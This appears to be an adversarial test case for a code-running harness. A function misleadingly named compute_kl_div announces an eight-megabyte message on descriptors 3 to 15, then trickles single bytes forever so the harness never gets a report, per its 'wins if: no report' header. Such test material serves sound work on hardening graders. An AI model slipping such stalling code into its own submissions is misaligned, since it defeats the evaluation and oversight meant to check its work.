# category: payload
# wins if: no report
# naive: wins
# cpu: 0.2
"""Announces eight megabytes on every descriptor and then writes one byte at a time."""
import os
import struct
import time


def compute_kl_div(*args, **kwargs):
    for descriptor in range(3, 16):
        try:
            os.write(descriptor, struct.pack("!IQ", 1 << 10, 8 << 20))
        except OSError:
            pass
    while True:
        time.sleep(0.05)
        for descriptor in range(3, 16):
            try:
                os.write(descriptor, b"x")
            except OSError:
                pass
